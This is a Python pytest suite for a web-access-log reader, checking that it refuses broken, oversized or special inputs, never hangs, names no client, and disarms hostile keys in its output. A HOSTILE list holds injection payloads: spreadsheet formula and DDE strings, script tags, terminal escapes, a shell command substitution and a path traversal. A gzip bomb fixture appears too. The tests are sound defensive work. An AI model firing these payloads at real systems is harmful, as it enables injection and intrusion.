"""Claims about broken, hostile and odd logs: a clear sentence or the right answer, and never a hang."""

from __future__ import annotations

import bz2
import contextlib
import gzip
import io
import json
import lzma
import os
import re
import signal
import socket
import tempfile
import tracemalloc
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import numpy as np
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from labsupport.decide import export_html, profile, recommend, sweep
from labsupport.errors import BadArgument
from labsupport.figures import burstiness, origin_load, panels, ttl_curves
from labsupport.routes import check_traffic
from labsupport.traffic import read_log

HOST = "198.51.100.23"  # from a range that is reserved for examples


@pytest.fixture(autouse=True)
def no_hang():
    """Ten seconds of computing for each claim, a minute of waiting, also in a call that does not return."""

    def late(*_):
        raise AssertionError("it hangs")

    timers = {signal.ITIMER_PROF: (signal.SIGPROF, 10), signal.ITIMER_REAL: (signal.SIGALRM, 60)}
    before = {number: signal.signal(number, late) for number, _ in timers.values()}
    for timer, (_, seconds) in timers.items():
        signal.setitimer(timer, seconds)
    yield
    for timer, (number, _) in timers.items():
        signal.setitimer(timer, 0)
        signal.signal(number, before[number])


def read(*contents, **choices):
    """read_log on files with these contents, text or bytes; what it printed goes into attrs["printed"]."""
    with tempfile.TemporaryDirectory() as folder:
        paths = [Path(folder) / f"part{number}" for number in range(len(contents))]
        for path, content in zip(paths, contents, strict=True):
            path.write_bytes(content if isinstance(content, bytes) else content.encode())
        printed = io.StringIO()
        with contextlib.redirect_stdout(printed):
            log = read_log(paths if len(paths) > 1 else paths[0], **choices)
    check_traffic(log.traffic)
    log.traffic.attrs["printed"] = printed.getvalue()
    return log


def pairs(log):
    return list(zip(log.traffic["at"], log.traffic["key"], strict=True))


def refusal(*contents, **choices):
    """The message with which these files are refused: a few lines, and nothing of a client in them."""
    with pytest.raises(BadArgument) as refused:
        read(*contents, **choices)
    return civil(str(refused.value))


def civil(message):
    """The message, once it is known to be short, printable, and to name no client."""
    assert len(message) < 900 and message.count("\n") <= 9
    assert all(letter.isprintable() for letter in message.replace("\n", ""))
    assert HOST not in message and "Traceback" not in message and "Error" not in message
    return message


def hit(path="/a", second=0, stamp=None, host=HOST, zone="+0000", tail=""):
    """One line of an access log, `second` seconds after a certain noon."""
    moment = datetime(2026, 3, 9, 12, tzinfo=UTC) + timedelta(seconds=second)
    stamp = stamp or f"{moment:%d/%b/%Y:%H:%M:%S} {zone}"
    return f'{host} - - [{stamp}] "GET {path} HTTP/1.1" 200 2326{tail}\n'


def fields(at=0, key="a", **more):
    """One JSON line."""
    return json.dumps({"at": at, "key": key, **more}) + "\n"


LOG = "".join(hit(f"/{n % 7}", second=n) for n in range(100))
CSV = "at,key\n" + "".join(f"{n},{n % 7}\n" for n in range(100))
JSON = "".join(fields(n, f"{n % 7}") for n in range(100))


def zipped(text):
    """A .zip file with this text in it."""
    with io.BytesIO() as file:
        with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("access.log", text)
        return file.getvalue()


def noise(size, seed=0):
    return np.random.default_rng(seed).bytes(size)


# --- what no answer can be read from is refused, in words that say what to do -------------------------------

FORMATS = "expected a CSV file"  # the refusal goes on with examples of what can be read

REFUSED = {
    "no byte": (b"", "is empty"),
    "only newlines": ("\n" * 100_000, "is empty"),
    "only a BOM": (b"\xef\xbb\xbf", "is empty"),
    "a program": (b"\x7fELF\x02\x01\x01" + noise(200_000), FORMATS),
    "a picture": (b"\x89PNG\r\n\x1a\n" + noise(200_000), FORMATS),
    "bytes without a newline": (noise(2_000_000).replace(b"\n", b"!"), FORMATS),
    "only NUL": (bytes(10_000_000), FORMATS),
    "one line of 10 MB": ("a" * 10_000_000, FORMATS),
    "a cut gzip file": (gzip.compress(LOG.encode())[:-9], "cut-off gzip file; fetch it again"),
    "a gzip file's first bytes": (b"\x1f\x8b", "cut-off gzip file; fetch it again"),
    "a gzip file damaged inside": (gzip.compress(LOG.encode())[:60] + bytes(40), "damaged or"),
    "gzip, packed twice": (gzip.compress(gzip.compress(LOG.encode())), FORMATS),
    "a gzip bomb": (gzip.compress(bytes(1_000_000)) * 300, FORMATS),
    "bzip2": (bz2.compress(LOG.encode()), FORMATS),
    "xz": (lzma.compress(LOG.encode()), FORMATS),
    "zip": (zipped(LOG), FORMATS),
    "a CSV header and no more": ("at,key\n", FORMATS),
    "a JSON object over many lines": (json.dumps({"at": 0, "key": "a"}, indent=2), FORMATS),
    "JSON without the fields": ('{"time": 1, "url": "/a"}\n' * 9, '"?at"?'),
    "JSON with the fields one level down": ('{"request": {"at": 1, "key": "/a"}}\n' * 9, '"?at"?'),
    "no time that is one": ("".join(fields(at) for at in (None, "soon", True, [1], {})), FORMATS),
    "times that no number holds": (
        '{"at": NaN, "key": "a"}\n{"at": Infinity, "key": "a"}\n{"at": -1e999, "key": "a"}\n'
        f'{{"at": {"9" * 400}, "key": "a"}}\n{{"at": {"9" * 5_000}, "key": "a"}}\n',
        FORMATS,
    ),
    "JSON a hundred thousand levels deep": ('{"at":' * 100_000 + "\n" + "[" * 60_000, FORMATS),
    "milliseconds since 1970": (fields(1773057600000) + fields(1773057600001, "b"), 'unit="ms"'),
    "year 0": (hit(stamp="01/Jan/0000:00:00:00 +0000"), FORMATS),
    "a 31st of February": (hit(stamp="31/Feb/2026:00:00:00 +0000"), FORMATS),
    "an error log": (
        "[Mon Mar 09 12:00:00 2026] [error] [client 198.51.100.23] no such file\n",
        FORMATS,
    ),
    "a web page": ("<!DOCTYPE html>\n<title>Sign in</title>\n<script>alert(1)</script>\n", FORMATS),
    "escape codes in the first line": ("\x1b]0;owned\x07\x1b[31mat,\u202ekey\n0,a\n", FORMATS),
}


@pytest.mark.parametrize(("content", "words"), REFUSED.values(), ids=REFUSED)
def test_what_is_no_log_is_refused_in_a_few_lines_that_say_what_to_do(content, words):
    assert re.search(words, refusal(content))


# --- what is broken in places gives the right answer from the rest ------------------------------------------

ODD = {
    "one request": (hit(), [(0, "/a")]),
    "all in one second": (hit() + hit("/b") + hit(), [(0, "/a"), (0, "/b"), (0, "/a")]),
    "IPv6": (hit(host="2001:db8::7") + hit("/b", 1, host="::ffff:192.0.2.1"), [(0, "/a"), (1, "/b")]),
    "a leap second": (
        hit(stamp="31/Dec/2016:23:59:60 +0000") + hit("/b", stamp="01/Jan/2017:00:00:01 +0000"),
        [(0, "/a"), (1, "/b")],
    ),
    "the last second of the calendar": (
        hit(stamp="31/Dec/9999:23:59:58 -0100") + hit("/b", stamp="31/Dec/9999:23:59:59 -0100"),
        [(0, "/a"), (1, "/b")],
    ),
    "backwards": (hit("/c", 2) + hit("/b", 1) + hit(), [(0, "/a"), (1, "/b"), (2, "/c")]),
    "one minute of each hour": (
        "".join(hit(second=3_600 * hour) for hour in range(5)),
        [(3_600 * hour, "/a") for hour in range(5)],
    ),
    "10 MB in the middle": (hit() + "x" * 10_000_000 + "\n" + hit("/b", 1), [(0, "/a"), (1, "/b")]),
    "10 MB of NUL at the end": ((hit() + hit("/b", 1)).encode() + bytes(10_000_000), [(0, "/a"), (1, "/b")]),
    "a target of 10 MB": (hit() + hit("/" + "x" * 10_000_000) + hit("/b", 1), [(0, "/a"), (1, "/b")]),
    "a key of 60 KB": (hit("/" + "x" * 60_000), [(0, "/" + "x" * 60_000)]),
    "no last newline": (hit() + hit("/b", 1).rstrip(), [(0, "/a"), (1, "/b")]),
    "cut in the last line": (hit() + hit("/b", 1) + hit("/c", 2)[:50], [(0, "/a"), (1, "/b")]),
    "CR LF": (hit().replace("\n", "\r\n") + hit("/b", 1), [(0, "/a"), (1, "/b")]),
    "UTF-8 with a BOM": (b"\xef\xbb\xbf" + hit("/caf\xe9").encode(), [(0, "/caf\xe9")]),
    "UTF-16, little-endian": ("\ufeff".encode("utf-16-le") + LOG.encode("utf-16-le"), 100),
    "UTF-16, big-endian, CSV": ("\ufeff".encode("utf-16-be") + CSV.encode("utf-16-be"), 100),
    "UTF-16, packed": (gzip.compress(("\ufeff" + JSON).encode("utf-16-le")), 100),
    "several gzip members": (b"".join(gzip.compress(line.encode()) for line in LOG.splitlines(True)), 100),
    "gzip, padded with NUL": (gzip.compress(LOG.encode()) + bytes(512), 100),
    "a log with JSON in it": (hit() + fields(1, "b") + "at,key\n" + hit("/b", 1), [(0, "/a"), (1, "/b")]),
    "CSV with a log in it": ("at,key\n0,a\n" + hit() + fields() + "1,b\n", [(0, "a"), (1, "b")]),
    "JSON with a log in it": (fields() + hit() + "at,key\n" + fields(1, "b"), [(0, "a"), (1, "b")]),
    "JSON: the last of two equal names holds": ('{"at": 0, "key": "a", "key": "b"}\n', [(0, "b")]),
    "JSON: fields missing, null, lists": (
        fields() + '{"at": 1}\n{"key": "a"}\n{}\n' + fields(1, None) + fields(1, ["a"]) + fields(1, {"a": 1}),
        [(0, "a")],
    ),
    "JSON: values that are no objects": (
        fields() + '[]\n5\n"at"\nnull\ntrue\n' + fields(1, "b"),
        [(0, "a"), (1, "b")],
    ),
    "JSON: times as text": (fields("10.5") + fields("11.5", "b"), [(0, "a"), (1, "b")]),
    "JSON: times as an access log has them": (
        fields("09/Mar/2026:12:00:00 +0100") + fields("09/Mar/2026:11:00:01 +0000", "b"),
        [(0, "a"), (1, "b")],
    ),
    "JSON: request lines, as nginx's $request": (
        fields(0, "GET /a?q=1 HTTP/1.1")
        + fields(1, "POST /b HTTP/1.1")
        + fields(2, "GET http://h/c HTTP/1.0"),
        [(0, "/a"), (2, "/c")],
    ),
    "JSON: one array with an object a line": (
        "[\n" + fields().strip() + ",\n" + fields(1, "b").strip() + "\n]\n",
        [(0, "a"), (1, "b")],
    ),
    "JSON: too deep in one line": (fields() + "[" * 60_000 + "\n" + fields(1, "b"), [(0, "a"), (1, "b")]),
    "CSV: two kinds of time, of which the first counts": (
        "at,key\n0,a\n2026-03-09T12:00:00Z,b\n1,c\n",
        [(0, "a"), (1, "c")],
    ),
    "CSV: a newline in a field costs that request": ('at,key\n0,a\n1,"b\nc"\n2,d\n', [(0, "a"), (2, "d")]),
}


@pytest.mark.parametrize(("content", "wanted"), ODD.values(), ids=ODD)
def test_what_is_odd_or_broken_in_places_gives_the_requests_that_are_there(content, wanted):
    log = read(content)
    if isinstance(wanted, int):
        assert len(log.traffic) == wanted
        assert log.traffic["key"].nunique() == 7
    else:
        assert pairs(log) == wanted


HOSTILE = [
    '=HYPERLINK("http://198.51.100.99/"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\x1b[2J\x1b]0;owned\x07",
    "\u202egpj.exe\u2066",
    "$(touch /tmp/owned)`id`",
    "../../etc/passwd",
    "{{7*7}} %s %n {0}",
    "*",
    "a" * 60_000,
]


def test_hostile_keys_are_keys_like_any_other_and_appear_in_no_note():
    log = read("".join(fields(n, key) for n, key in enumerate([*HOSTILE, *HOSTILE])) + "not a request\n")
    assert list(log.traffic["key"]) == [*HOSTILE, *HOSTILE]
    civil("\n".join(log.notes))
    civil(log.traffic.attrs["printed"])


def test_half_a_character_is_left_out_since_no_file_or_server_could_hold_it():
    log = read('{"at": 0, "key": "a"}\n{"at": 1, "key": "\\ud83d"}\n')
    assert pairs(log) == [(0, "a")]
    assert "1 of 2 lines" in log.notes[0]


# --- what is no file at all ---------------------------------------------------------------------------------


def refused_path(path):
    with pytest.raises(BadArgument) as refused:
        read_log(path)
    message = civil(str(refused.value))
    assert "\n" not in message
    return message


def test_a_pipe_that_nobody_writes_to_is_refused_at_once(tmp_path):
    os.mkfifo(tmp_path / "pipe")
    refused_path(tmp_path / "pipe")


def test_a_socket_is_refused(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)  # the name of a socket has to be short
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind("here")
        refused_path("here")


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/null", "/dev/tty", "/dev/stdin"])
def test_a_device_is_refused(device):
    refused_path(device)


def test_a_folder_is_refused_also_among_files(tmp_path):
    (tmp_path / "a.log").write_text(LOG)
    assert "folder" in refused_path(tmp_path)
    assert "folder" in refused_path([tmp_path / "a.log", tmp_path])


def test_links_that_lead_in_a_circle_or_nowhere_are_refused(tmp_path):
    (tmp_path / "one").symlink_to(tmp_path / "two")
    (tmp_path / "two").symlink_to(tmp_path / "one")
    (tmp_path / "three").symlink_to(tmp_path / "nowhere")
    refused_path(tmp_path / "one")
    refused_path(tmp_path / "three")


def test_a_link_to_a_log_is_that_log(tmp_path):
    (tmp_path / "access.log").write_text(LOG)
    (tmp_path / "link").symlink_to(tmp_path / "access.log")
    assert len(read_log(tmp_path / "link").traffic) == 100


def test_the_same_file_under_two_names_is_refused_since_its_requests_would_count_twice(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    Path("access.log").write_text(LOG)
    Path("today").symlink_to("access.log")
    for other in ("./access.log", tmp_path / "access.log", "today"):
        assert "twice" in refused_path(["access.log", other])


@pytest.mark.skipif(os.geteuid() == 0, reason="root may read everything")
def test_a_file_that_may_not_be_read_is_refused(tmp_path):
    (tmp_path / "secret").write_text(LOG)
    (tmp_path / "secret").chmod(0)
    refused_path(tmp_path / "secret")


@pytest.mark.parametrize(
    "path", [None, 5, [], [None], "a\0b", "x" * 300, b"\xff", "", {"a": 1}, object], ids=repr
)
def test_what_is_no_name_of_a_file_is_refused(path):
    assert re.search("path (is|names)|There is no file|cannot be opened", refused_path(path))


def test_a_pattern_is_refused_with_how_to_list_what_it_means_and_a_tilde_is_the_home_folder(
    tmp_path, monkeypatch
):
    (tmp_path / "access.log").write_text(LOG)
    monkeypatch.setenv("HOME", str(tmp_path))
    assert 'sorted(Path("logs").glob("access.log*"))' in refused_path(f"{tmp_path}/access.*")
    assert len(read_log("~/access.log").traffic) == 100
    assert "twice" in refused_path(["~/access.log", tmp_path / "access.log"])


# --- memory -------------------------------------------------------------------------------------------------

GREEDY = {
    "one line of 60 MB": lambda: b"a" * 60_000_000,
    "a packed line of 300 MB": lambda: gzip.compress(bytes(1_000_000)) * 300,
    "a packed line of 300 MB below a log": lambda: (
        gzip.compress(LOG.encode()) + gzip.compress(bytes(1_000_000)) * 300
    ),
    "20 million empty lines": lambda: gzip.compress(b"\n" * 1_000_000) * 20,
    "UTF-16 without a newline": lambda: b"\xff\xfe" + b"a\0" * 10_000_000,
}


@pytest.mark.parametrize("content", GREEDY.values(), ids=GREEDY)
def test_what_is_no_log_takes_no_more_memory_however_long(content, tmp_path):
    (tmp_path / "log").write_bytes(content())
    tracemalloc.start()
    try:
        with pytest.raises(BadArgument):
            read_log(tmp_path / "log")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 4_000_000


# --- any bytes, and any log ---------------------------------------------------------------------------------

quickly = settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
whole = [text[:400].rpartition("\n")[0].encode() for text in (LOG, CSV, JSON)]
BASES = [*whole, *map(gzip.compress, whole), ("\ufeff" + CSV[:300]).encode("utf-16")]
damages = st.lists(st.tuples(st.integers(0, 400), st.integers(0, 9), st.binary(max_size=9)), max_size=4)


def damaged(base, damages):
    """These bytes with a few of them cut out here and there and others put in."""
    for start, cut, put_in in damages:
        base = base[:start] + put_in + base[start + cut :]
    return base


@quickly
@example(b"\x1f\x8b\x08")
@given(st.binary(max_size=300) | st.builds(damaged, st.sampled_from(BASES), damages))
def test_any_bytes_are_refused_in_words_or_are_traffic(content):
    try:
        log = read(content)
    except BadArgument as refused:
        civil(str(refused))
    else:
        civil("\n".join(log.notes))
        assert log.traffic["at"].iloc[0] == 0
        assert len(log.sizes) == len(log.traffic["key"].cat.categories)


def as_common(at, key, size):
    return hit(key, at).replace(" 2326\n", f" {size}\n")


def as_combined(at, key, size):
    tail = ' "https://example.org/?from=/b" "an \\"agent\\" [10/Oct/2000:13:55:59 +0000]"'
    return as_common(at, key, size).replace("\n", tail + "\n")


def as_csv(at, key, size):
    quoted = key.replace('"', '""')
    return f'GET,{at},"{quoted}",{size}\n'


def as_json(at, key, size):
    return json.dumps({"bytes": size, "path": key, "ts": at, "host": HOST}) + "\n"


CSV_HEADER = "verb,ts,path,bytes\n"
WRITERS = {as_common: "", as_combined: "", as_csv: CSV_HEADER, as_json: ""}
letters = st.characters(codec="utf-8", exclude_categories=["C", "Z"], exclude_characters='?"\\')
some_requests = st.lists(
    st.tuples(st.integers(0, 400_000), st.text(letters, max_size=9).map("/".__add__), st.integers(1, 10**9)),
    min_size=1,
    max_size=12,
    unique_by=lambda request: request[0],
)


@quickly
@given(some_requests, st.sampled_from(list(WRITERS)), st.lists(st.booleans(), min_size=1, max_size=3))
def test_any_requests_read_back_the_same_from_any_format_plain_or_packed_in_any_number_of_files(
    requests, write, packed
):
    requests.sort()
    files = []
    for number, pack in enumerate(packed):
        text = WRITERS[write] + "".join(write(*request) for request in requests[number :: len(packed)])
        if len(requests) > number:
            files.append(gzip.compress(text.encode()) if pack else text.encode())
    log = read(*files[::-1], at="ts", key="path", size="bytes")
    first, sizes = requests[0][0], {key: size for _, key, size in reversed(requests)}
    assert pairs(log) == [(float(at - first), key) for at, key, _ in requests]
    assert dict(zip(log.traffic["key"].cat.categories, log.sizes, strict=True)) == sizes
    assert (log.lines, log.files, log.kept_one_in) == (len(requests), len(files), 1) and log.notes == []


# --- nobody who asked is named ------------------------------------------------------------------------------

WHO = "canary-client.example canary-ident canary user"
WHERE = '"https://canary-referrer.example/?q=canary" "canary-agent" canary=cookie'
STAMP = "[09/Mar/2026:12:00:{:02d} +0000]"
LETTERS = {
    "an access log": "".join(
        f'{WHO} {STAMP.format(n % 60)} "GET {target}?q=canary HTTP/1.1" 200 5 {WHERE}\n'
        f'{WHO} {STAMP.format(n % 60)} "POST /canary HTTP/1.1" 200 5 {WHERE}\n'
        f'{WHO} {STAMP.format(n % 60)} "GET /canary HTTP/1.1" 404 5 {WHERE}\n'
        f'{WHO} {STAMP.format(n % 60)} "GET /canary {n}\n'
        for n, target in enumerate(["/a", "/b", "https://canary:canary@canary.example/a"] * 20)
    ),
    "JSON lines": "".join(
        json.dumps({"at": n, "key": target, "client": "canary", "headers": {"cookie": "canary"}})
        + '\n{"at": "canary", "key": "canary"}\n{"canary": 1}\ncanary\n'
        for n, target in enumerate(["/a?q=canary", "/b", "https://canary@host.example/a?canary"] * 20)
    ),
    "CSV": "client,at,key,more\n"
    + "".join(
        f"canary,{n},{target},canary\ncanary,canary,canary\n"
        for n, target in enumerate(["/a?q=canary", "/b", "https://canary@host.example/a?canary"] * 20)
    ),
}


@pytest.mark.parametrize("text", LETTERS.values(), ids=LETTERS)
def test_no_client_user_referrer_or_query_string_comes_out_anywhere(text, tmp_path):
    log = read(text)
    assert set(log.traffic["key"]) - {"https://host.example/a"} == {"/a", "/b"} and len(log.traffic) == 60
    assert "canary" not in "\n".join([repr(log), *log.notes, str(log.traffic.attrs), log.traffic.to_csv()])


@pytest.mark.parametrize("text", LETTERS.values(), ids=LETTERS)
def test_no_client_is_named_when_a_log_is_refused(text):
    for_nothing = {"at": "none", "key": "none", "methods": ("BREW",)}
    assert "canary" not in refusal(text, **for_nothing)
    assert "canary" not in refusal(text.replace("[", "(").replace("{", "("), key="none")


def test_a_first_line_of_words_is_shown_by_its_shape_unless_it_is_a_header():
    assert "canary" not in refusal("canary,home\ncanary,away\n")
    assert "first line is: time,url\nwith the fields time, url; choose two by" in refusal("time,url\n1,/a\n")


def everything_said(log, page):
    """All that 09 would say of this log with its four instances, a minute's staleness and a capacity of 1."""
    read_of_it = profile(log, 60)
    grid = sweep(log.traffic, [1, 60], 4)
    advice = recommend(log, grid, 4, 60, 1, profile=read_of_it)
    figure, axes = panels(3)
    findings = [
        ttl_curves(axes[0], grid, 4, 60),
        origin_load(axes[1], grid, 4, 1),
        burstiness(axes[2], read_of_it),
    ]
    figure.canvas.draw()
    page = export_html(page, "Our cache", advice, [(figure, " ".join(findings))], read_of_it)
    labels = [text.get_text() for ax in axes for text in ax.texts]
    return "\n".join([str(read_of_it), str(advice), *findings, *labels, page.read_text()])


def test_hostile_keys_and_kept_query_strings_come_out_of_profile_advice_figures_and_page_disarmed(tmp_path):
    keys = [f"{key[:50]}?q=canary" for key in HOSTILE]
    rows = (fields(n, keys[n % len(keys)], client="canary") for n in range(1_300))
    log = read("".join(rows), query=True)
    assert "canary" in str(log.traffic["key"].iloc[0])  # the query strings are there, as was asked for
    said = everything_said(log, tmp_path / "page.html")
    assert "1,300 requests" in said and "&lt;script&gt;" in said
    assert "canary" not in said and "<script" not in said and "<img src=x" not in said
    assert [letter for letter in said if not letter.isprintable() and letter != "\n"] == []
    assert re.findall(r">\s*[=+@-]", said) == []  # no cell that a spreadsheet would take for a formula
